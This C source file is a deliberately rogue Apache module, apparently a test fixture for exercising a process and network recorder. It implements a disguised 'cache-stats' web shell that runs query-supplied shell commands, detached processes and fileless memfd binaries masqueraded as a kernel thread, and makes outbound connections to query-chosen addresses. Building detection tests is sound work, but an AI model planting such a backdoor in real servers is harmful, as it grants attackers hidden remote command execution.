/* A stand-in for a rogue Apache module: what it is told in the query it does from inside the worker.
   Addresses are those of the recorder's own network namespace. */
#define _GNU_SOURCE
#include <apr_strings.h>
#include <arpa/inet.h>
#include <fcntl.h>
#include <httpd.h>
#include <http_config.h>
#include <http_protocol.h>
#include <liburing.h>
#include <netinet/tcp.h>
#include <signal.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

static char *value(request_rec *r, const char *name) {
  char *at = r->args ? strstr(r->args, name) : NULL;
  if (!at) return "";
  at = apr_pstrdup(r->pool, at + strlen(name));
  at[strcspn(at, "&")] = 0;
  ap_unescape_url(at);
  return at;
}

static void target(request_rec *r, struct sockaddr_storage *to, socklen_t *length) {
  char *address = value(r, "a=");
  int port = atoi(value(r, "p="));
  memset(to, 0, sizeof *to);
  if (strchr(address, ':')) {
    struct sockaddr_in6 *six = (struct sockaddr_in6 *)to;
    six->sin6_family = AF_INET6, six->sin6_port = htons(port), *length = sizeof *six;
    inet_pton(AF_INET6, address, &six->sin6_addr);
  } else {
    struct sockaddr_in *four = (struct sockaddr_in *)to;
    four->sin_family = AF_INET, four->sin_port = htons(port), *length = sizeof *four;
    inet_pton(AF_INET, address, &four->sin_addr);
  }
}

static void connects(request_rec *r, const char *how) {
  struct sockaddr_storage to;
  socklen_t length;
  target(r, &to, &length);
  int udp = !strcmp(how, "udp");
  int s = socket(to.ss_family, udp ? SOCK_DGRAM : SOCK_STREAM, 0);
  if (to.ss_family == AF_INET6) {
    /* On one loopback interface the kernel would take the destination for the source, too. */
    struct sockaddr_in6 own = {.sin6_family = AF_INET6};
    inet_pton(AF_INET6, "2001:db8:5::10", &own.sin6_addr);
    bind(s, (struct sockaddr *)&own, sizeof own);
  }
  if (udp) {
    sendto(s, "hello", 5, 0, (struct sockaddr *)&to, length);
  } else if (!strcmp(how, "fastopen")) {
    sendto(s, "hello", 5, MSG_FASTOPEN, (struct sockaddr *)&to, length);
  } else if (!strcmp(how, "ring")) {
    struct io_uring ring;
    struct io_uring_cqe *done;
    if (io_uring_queue_init(4, &ring, 0) == 0) {
      io_uring_prep_connect(io_uring_get_sqe(&ring), s, (struct sockaddr *)&to, length);
      io_uring_submit(&ring);
      io_uring_wait_cqe(&ring, &done);
      usleep(300000);
      io_uring_queue_exit(&ring);
    }
  } else {
    connect(s, (struct sockaddr *)&to, length);
  }
  usleep(200000);
  close(s);
}

static void fileless(const char *program, char *const argv[]) {
  char data[65536];
  int from = open(program, O_RDONLY), to = memfd_create("kworker/u8:1", 0);
  for (ssize_t n; (n = read(from, data, sizeof data)) > 0;) (void)!write(to, data, n);
  if (fork() == 0) fexecve(to, argv, environ);
  wait(NULL);
}

static int handler(request_rec *r) {
  if (strcmp(r->handler, "cache-stats")) return DECLINED;
  char *mode = value(r, "m="), *command = value(r, "c=");
  if (!strcmp(mode, "sh")) {
    FILE *out = popen(command, "r");
    while (fgetc(out) != EOF);
    pclose(out);
  } else if (!strcmp(mode, "detach")) {
    if (fork() == 0) {
      setsid();
      if (fork() == 0) {
        usleep(150000);
        execl("/bin/sh", "sh", "-c", command, NULL);
      }
      _exit(0);
    }
    usleep(600000);
  } else if (!strcmp(mode, "exec")) {
    if (fork() == 0) execl(command, command, value(r, "x="), NULL);
    wait(NULL);
  } else if (!strcmp(mode, "memfd")) {
    fileless(command, (char *const[]){"[kworker/u8:1]", "-u", NULL});
  } else if (!strcmp(mode, "crash")) {
    raise(SIGSEGV);
  } else {
    connects(r, mode);
  }
  ap_rputs("ok\n", r);
  return OK;
}

static int started(apr_pool_t *p, apr_pool_t *log, apr_pool_t *temporary, server_rec *s) {
  const char *command = getenv("GW_AT_START");
  return command && system(command) ? OK : OK;
}

static void hooks(apr_pool_t *p) {
  ap_hook_handler(handler, NULL, NULL, APR_HOOK_FIRST);
  ap_hook_post_config(started, NULL, NULL, APR_HOOK_LAST);
}

module AP_MODULE_DECLARE_DATA cache_stats_module = {STANDARD20_MODULE_STUFF, NULL, NULL, NULL,
                                                    NULL, NULL, hooks};
